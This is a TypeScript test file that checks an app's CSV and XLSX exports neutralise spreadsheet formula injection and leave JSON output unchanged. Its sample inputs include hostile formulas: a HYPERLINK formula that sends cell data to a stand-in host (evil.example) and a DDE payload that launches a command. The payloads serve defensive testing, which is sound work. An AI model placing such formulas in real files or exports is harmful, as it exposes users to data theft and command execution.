// Exports are safe to open: CSV and XLSX cells a spreadsheet would run as a
// formula are written as text (OWASP's leading `'`), header row included;
// JSON and JSONL carry the values unchanged.
import t from 'tap'
import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { signup } from '../helpers/build.ts'
import { buildWithCounter, startJob, waitForEnd } from '../helpers/jobs.ts'
import { exportStream, spreadsheetText } from '../../core/exports/exporters.ts'

const DANGEROUS = ['=HYPERLINK("http://evil.example","x")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1']

async function readAll (stream: NodeJS.ReadableStream): Promise<Buffer> {
  const chunks: Buffer[] = []
  for await (const chunk of stream) chunks.push(Buffer.from(chunk as Buffer))
  return Buffer.concat(chunks)
}

async function * rowsOf (rows: Array<Record<string, unknown>>) { yield * rows }

async function sheetValues (payload: Buffer): Promise<unknown[][]> {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(payload as unknown as ArrayBuffer)
  return workbook.getWorksheet('results')!.getSheetValues().slice(1).map(r => (r as unknown[]).slice(1))
}

t.test('spreadsheetText prefixes text starting with = + - @ tab CR, and nothing else', async t => {
  for (const text of DANGEROUS) t.equal(spreadsheetText(text), `'${text}`, JSON.stringify(text))
  for (const text of ['plain', ' =1', "'already", '1-2', 'a@b.c', '']) t.equal(spreadsheetText(text), text, JSON.stringify(text))
  t.equal(spreadsheetText(-5), '-5', 'a number keeps its sign')
  t.equal(spreadsheetText({ a: '=1' }), '{"a":"=1"}', 'nested values are JSON text, which never starts with a formula character')
  t.equal(spreadsheetText(null), '')
})

t.test('CSV: every cell and the header are neutralised, RFC 4180 quoting kept', async t => {
  const columns = ['=title', 'name', 'n']
  const rows = DANGEROUS.map((text, i) => ({ '=title': text, name: `a "quoted", ${text}`, n: -i }))
  const csv = await readAll(exportStream('csv', rowsOf(rows), columns, false))
  const parsed = parse(csv, { bom: true, relax_column_count: false }) as string[][]
  t.same(parsed[0], ["'=title", 'name', 'n'], 'header row')
  t.same(parsed.slice(1).map(r => r[0]), DANGEROUS.map(d => `'${d}`))
  t.same(parsed.slice(1).map(r => r[1]), DANGEROUS.map(d => `a "quoted", ${d}`), 'text that only contains the characters is unchanged')
  t.same(parsed.slice(1).map(r => r[2]), rows.map(r => String(r.n)), 'numbers are not prefixed')
  t.match(csv.toString('utf8'), /"'\r=1\+1"/, 'a cell with CR is still quoted')
})

t.test('XLSX: every text cell and the header are neutralised; numbers stay numbers', async t => {
  const columns = ['@head', 'text', 'n']
  const rows = DANGEROUS.map((text, i) => ({ '@head': 'x', text, n: -i - 1 }))
  const values = await sheetValues(await readAll(exportStream('xlsx', rowsOf(rows), columns, false)))
  t.same(values[0], ["'@head", 'text', 'n'])
  // XML parsers read a raw CR in text as LF (line-end normalisation): compare after the same step.
  t.same(values.slice(1).map(r => String(r[1]).replace(/\r\n?/g, '\n')), DANGEROUS.map(d => `'${d}`.replace(/\r/g, '\n')))
  t.same(values.slice(1).map(r => r[2]), rows.map(r => r.n), 'numeric cells')
})

t.test('over HTTP: a scraped label starting with = is text in CSV and XLSX, unchanged in JSON and JSONL', async t => {
  const app = await buildWithCounter(t)
  const user = await signup(app)
  const label = '=HYPERLINK("http://evil.example/?"&A1,"open")'
  const { job_id: id } = (await startJob(app, user.apiKey, { max_results: 2, label })).json()
  await waitForEnd(app, user.apiKey, id)
  const headers = { 'x-api-key': user.apiKey }

  const csv = parse((await app.inject({ url: `/api/tool-run/${id}/results.csv`, headers })).rawPayload, { bom: true, columns: true }) as Array<Record<string, string>>
  t.same(csv.map(r => r.label), [`'${label}`, `'${label}`])
  const xlsx = await sheetValues((await app.inject({ url: `/api/tool-run/${id}/results.xlsx`, headers })).rawPayload)
  const labelAt = (xlsx[0] as string[]).indexOf('label')
  t.same(xlsx.slice(1).map(r => r[labelAt]), [`'${label}`, `'${label}`])
  const json = (await app.inject({ url: `/api/tool-run/${id}/results.json`, headers })).json() as Array<Record<string, unknown>>
  t.same(json.map(r => r.label), [label, label])
  const jsonl = (await app.inject({ url: `/api/tool-run/${id}/results.jsonl`, headers })).body.trim().split('\n').map(l => JSON.parse(l))
  t.same(jsonl.map(r => r.label), [label, label])
})
